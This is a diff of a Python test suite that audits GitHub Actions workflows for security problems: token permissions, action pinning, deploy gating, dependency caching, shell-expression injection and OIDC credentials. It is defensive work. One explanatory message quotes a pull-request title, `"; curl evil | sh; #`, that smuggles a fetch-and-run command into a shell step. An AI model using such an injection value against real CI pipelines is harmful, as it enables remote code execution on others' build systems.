@@ -177,8 +177,7 @@ def test_workflow_permissions_least_privilege():
         if "permissions" not in flow:
             problems.append(
                 f"{name}: no top-level permissions, so every job gets the repository default "
-                "(often write to "
-                "everything)"
+                "(often write to everything)"
             )
         top = flow.get("permissions")
         if isinstance(top, str) and top.strip() in ("write-all", "read-all"):
@@ -188,8 +187,7 @@ def test_workflow_permissions_least_privilege():
             if writes:
                 problems.append(
                     f"{name}: top-level permissions grant write ({', '.join(writes)}) to every "
-                    "job; grant it in the job that needs "
-                    "it"
+                    "job; grant it in the job that needs it"
                 )
         if "pull_request_target" in (
             triggers(flow) if isinstance(triggers(flow), (dict, list)) else [triggers(flow)]
@@ -208,22 +206,17 @@ def test_workflow_permissions_least_privilege():
                 if extra:
                     problems.append(
                         f"{name} job {job_name}: writes {', '.join(extra)}, which no build or "
-                        "deploy job "
-                        "needs"
+                        "deploy job needs"
                     )
                 if str(perms.get("id-token")) == "write" and not uses_oidc(job or {}):
                     problems.append(
                         f"{name} job {job_name}: asks for id-token: write but no step exchanges an "
-                        "OIDC token "
-                        ""
-                        "(configure-aws-credentials and the like); any action of this job could "
-                        "mint "
-                        "one"
+                        "OIDC token (configure-aws-credentials and the like); any action of this "
+                        "job could mint one"
                     )
     report(
         "rule: workflows start from no permissions (`permissions: {}` or read-only) and grant "
-        "writes per "
-        "job",
+        "writes per job",
         "the GITHUB_TOKEN is handed to every action a job runs; with write-all, one "
         "compromised dependency can push code, publish releases or rewrite workflows.",
         problems,
@@ -245,8 +238,7 @@ def test_third_party_actions_pinned_to_commit_sha():
                 if not FULL_SHA.match(version):
                     problems.append(
                         f"{rel(path)} job {job_name}: {ref} is pinned to a movable ref, not a "
-                        "40-character commit "
-                        "SHA"
+                        "40-character commit SHA"
                     )
     report(
         "rule: third-party actions are pinned to a full commit SHA (keep the version in a comment)",
@@ -296,19 +288,16 @@ def test_deploy_gated_behind_tests_and_build_on_main():
         if "refs/heads/main" not in condition and not only_main_push:
             problems.append(
                 f"{where}: can run for refs other than main (no `if: github.ref == "
-                "'refs/heads/main'`, and the workflow triggers on "
-                f"{on!r})"
+                f"'refs/heads/main'`, and the workflow triggers on {on!r})"
             )
         elif "||" in condition and not only_main_push:
             problems.append(
                 f"{where}: `if: {condition}` lets other refs through with ||; deploy when the ref "
-                "is main, and only "
-                "then"
+                "is main, and only then"
             )
     report(
         "rule: deployment needs the test and build jobs, runs only for main and goes through a "
-        "GitHub "
-        "environment",
+        "GitHub environment",
         "a deploy that does not wait for tests ships broken code; one that runs for any "
         "branch lets any pushed branch reach production; an environment adds approval and "
         "keeps production credentials away from other jobs.",
@@ -339,8 +328,26 @@ def test_ci_caches_dependencies_keyed_on_lockfile():
                     else:
                         problems.append(
                             f"{rel(path)} job {job_name}: setup-python caches but "
-                            "cache-dependency-path names no lock file that exists "
-                            f"({paths})"
+                            f"cache-dependency-path names no lock file that exists ({paths})"
+                        )
+                if uses.startswith("astral-sh/setup-uv") and str(
+                    with_.get("enable-cache", "auto")
+                ).lower() in ("true", "auto"):
+                    # setup-uv keys its cache on cache-dependency-glob, whose default names
+                    # **/uv.lock among others.
+                    globs = [
+                        p.strip()
+                        for p in str(with_.get("cache-dependency-glob") or "").splitlines()
+                        if p.strip()
+                    ] or ["**/uv.lock"]
+                    locks = [g for g in globs if LOCKFILE.search(g) and any(root.glob(g))]
+                    if locks:
+                        keyed = True
+                    else:
+                        problems.append(
+                            f"{rel(path)} job {job_name}: setup-uv caches but "
+                            "cache-dependency-glob names no lock file that exists "
+                            f"({globs})"
                         )
                 if uses.startswith("actions/cache"):
                     key = str(with_.get("key") or "")
@@ -350,16 +357,14 @@ def test_ci_caches_dependencies_keyed_on_lockfile():
                     else:
                         problems.append(
                             f"{rel(path)} job {job_name}: actions/cache key {key!r} does not hash "
-                            "a lock "
-                            "file"
+                            "a lock file"
                         )
             if keyed:
                 found = True
             else:
                 problems.append(
                     f"{rel(path)} job {job_name}: runs the tests without a dependency cache keyed "
-                    "on the lock "
-                    "file"
+                    "on the lock file"
                 )
     if found:
         problems = []
@@ -383,13 +388,11 @@ def test_no_untrusted_expressions_in_run_steps():
                 for match in UNTRUSTED.finditer(script):
                     problems.append(
                         f"{rel(path)} job {job_name} step {step.get('name') or '(unnamed)'}: "
-                        f"{match.group(0)} inside "
-                        "run:"
+                        f"{match.group(0)} inside run:"
                     )
     report(
         "rule: no attacker-controlled ${{ }} expression (github.event.*, github.head_ref, "
-        "inputs.*) inside "
-        "run:",
+        "inputs.*) inside run:",
         "the expression is pasted into the shell script before it runs: a pull request "
         'titled `"; curl evil | sh; #` executes. Pass the value through env: and use "$VAR".',
         problems,
@@ -472,8 +475,7 @@ def test_cd_ships_commit_tagged_images_with_oidc():
                     if tag.strip("\"'").endswith(":latest") or not names_the_commit(tag, env):
                         problems.append(
                             f"{where}: image tag {tag} is not the commit (github.sha); a tag like "
-                            "latest or a branch name "
-                            "moves"
+                            "latest or a branch name moves"
                         )
                 uses, given = str(step.get("uses", "")), step.get("with") or {}
                 if uses.startswith("aws-actions/configure-aws-credentials"):
@@ -482,14 +484,12 @@ def test_cd_ships_commit_tagged_images_with_oidc():
                         problems.append(
                             f"{where}: configure-aws-credentials gets "
                             f"{', '.join(keys) or 'no role-to-assume'}; assume a role with OIDC "
-                            "instead of stored "
-                            "keys"
+                            "instead of stored keys"
                         )
                     elif grants(flow, job, "id-token") != "write":
                         problems.append(
                             f"{where}: assumes a role with OIDC but the job lacks permissions "
-                            "id-token: write, so it cannot get a "
-                            "token"
+                            "id-token: write, so it cannot get a token"
                         )
                     elif deploys:
                         deploys_with_oidc = True
@@ -505,13 +505,11 @@ def test_cd_ships_commit_tagged_images_with_oidc():
     if not deploys_with_oidc:
         problems.append(
             "no deploy job gets its cloud credentials by assuming a role with OIDC "
-            "(configure-aws-credentials with "
-            "role-to-assume)"
+            "(configure-aws-credentials with role-to-assume)"
         )
     report(
         "rule: CD tags every image with the commit it was built from and gets cloud credentials "
-        "through OIDC, never stored "
-        "keys",
+        "through OIDC, never stored keys",
         "a commit tag says exactly what runs and makes a rollback a redeploy of an older SHA; "
         "`latest` is whatever was pushed last. OIDC credentials last minutes and are bound to "
         "this repository and environment; a stored access key works from anywhere until revoked.",
